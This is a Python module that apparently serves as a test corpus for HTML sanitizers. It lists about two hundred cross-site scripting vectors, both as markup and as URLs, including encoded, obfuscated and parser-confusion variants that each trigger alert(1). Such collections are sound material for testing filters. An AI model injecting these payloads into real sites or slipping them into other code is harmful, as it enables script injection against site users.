"""Ways in which a script gets into a page: each calls `alert` when something in it still works."""

from __future__ import annotations

MARKUP = r"""
<script>alert(1)</script>
<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<script>alert(1)
<<script>alert(1)//<</script>
<script type="module">alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
<title><script>alert(1)</script></title>
<textarea><img src=x onerror=alert(1)></textarea>
<xmp><img src=x onerror=alert(1)></xmp><img title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<plaintext><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)>
<img src onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src=x oneRRor=&#97;lert(1)>
<img src=x onerror=&#x61;&#108;ert&lpar;1&rpar;>
<img src="x" alt="`" title="`onerror=alert(1)`">
<img src='x' title='"onerror=alert(1) x="'>
<img src=x title=" onerror=alert(1) ">
<img srcset="x 1x" onerror=alert(1)>
<img srcset="javascript:alert(1) 1x" src=x onerror=alert(1)>
<img data-src=x onload=alert(1) onerror=alert(1)>
<img data-src='x" onerror="alert(1)'>
<img data-src="x&quot; onerror=&quot;alert(1)">
<img data-srcset='x" onerror="alert(1) 1x'>
<img src="x"onerror="alert(1)">
<img src=x&Tab;onerror=alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<video poster=javascript:alert(1) onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio src onloadstart=alert(1)>
<track src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>
<svg><set attributeName=onload to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<math href="javascript:alert(1)">CLICK</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">CLICK</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<table><td><svg><desc><td></desc><mglyph><style><img src=x onerror=alert(1)></style>
<select><style></select><img src=x onerror=alert(1)></style></select>
<select><template><img src=x onerror=alert(1)></template></select>
<template><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<a href="javascript:alert(1)">CLICK</a>
<a href="JaVaScRiPt:alert(1)">CLICK</a>
<a href=" javascript:alert(1)">CLICK</a>
<a href="&#1;javascript:alert(1)">CLICK</a>
<a href="java&#9;script:alert(1)">CLICK</a>
<a href="java&NewLine;script:alert(1)">CLICK</a>
<a href="&#x6A;avascript&colon;alert(1)">CLICK</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41">CLICK</a>
<a href="javascript://%0aalert(1)">CLICK</a>
<a href="javascript://http://x/?%0Aalert(1)">CLICK</a>
<a href="feed:javascript:alert(1)">CLICK</a>
<a href="view-source:javascript:alert(1)">CLICK</a>
<a href="data:text/html,<script>alert(1)</script>">CLICK</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">CLICK</a>
<a href="vbscript:alert(1)">CLICK</a>
<a href="x" onclick=alert(1)>CLICK</a>
<a href="x" ping="javascript:alert(1)" onmouseover=alert(1)>CLICK</a>
<a href="http://x/" style="x:expression(alert(1))" onfocus=alert(1) tabindex=1>CLICK</a>
<a title="x" title='" onmouseover=alert(1) "'>CLICK</a>
<a href='x" onmouseover="alert(1)'>CLICK</a>
<a href="http://x/&quot; onmouseover=&quot;alert(1)">CLICK</a>
<area href="javascript:alert(1)">
<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src=x width=50 height=50>
<base href="javascript:alert(1)//"><a href="x">CLICK</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(1))}" onload=alert(1)>
<link rel=stylesheet href=x onerror=alert(1)>
<style>@import "javascript:alert(1)";</style><style onload=alert(1)></style>
<style>*{x:expression(alert(1))}</style>
<style><!--</style><script>alert(1)</script>-->
<div style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</div>
<div style="animation:x 1s" onanimationstart=alert(1) onmouseenter=alert(1)>x</div>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<frame src="javascript:alert(1)">
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>" onerror=alert(1)></object>
<object><param name=src value=javascript:alert(1)></object>
<embed src="javascript:alert(1)" onerror=alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=x onerror=alert(1)></applet>
<form action="javascript:alert(1)"><input type=submit value=CLICK></form>
<form><button formaction="javascript:alert(1)">CLICK</button></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">CLICK</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>CLICK</button>
<isindex type=image src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)><summary>CLICK</summary></details>
<details ontoggle=alert(1)><summary>CLICK</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>CLICK</button></form></dialog>
<p onmouseover=alert(1)>x</p>
<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>
<custom-element onclick=alert(1) tabindex=0>CLICK</custom-element>
<x onpointerenter=alert(1)>x</x>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<p title='<!--'><img title='--><img src=x onerror=alert(1)>'>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- --!><img src=x onerror=alert(1)> -->
<!-><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?x ><img src=x onerror=alert(1)>?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<%<img src=x onerror=alert(1)>%>
</><img src=x onerror=alert(1)>
<b <img src=x onerror=alert(1)>>x</b>
<img src="x` `<script>alert(1)</script>"` `>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<p lang='x" onmouseover="alert(1)'>x</p>
<p dir='" onmouseover="alert(1)'>x</p>
<td colspan='1" onmouseover="alert(1)'>x</td>
<time datetime='x" onmouseover="alert(1)'>x</time>
<q cite="javascript:alert(1)" onmouseover=alert(1)>x</q>
<blockquote cite='x" onmouseover="alert(1)'>x</blockquote>
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip().splitlines()
"""Markup, one vector a line."""

ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
javascript://%0aalert(1)
javascript://example.org/%0aalert(1)
feed:javascript:alert(1)
view-source:javascript:alert(1)
jar:javascript:alert(1)!/
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
blob:javascript:alert(1)
http://example.org/" onmouseover="alert(1)
http://example.org/'onmouseover='alert(1)
http://example.org/><script>alert(1)</script>
//javascript:alert(1)
\javascript:alert(1)
""".strip("\n").splitlines()
"""Addresses, one vector a line."""
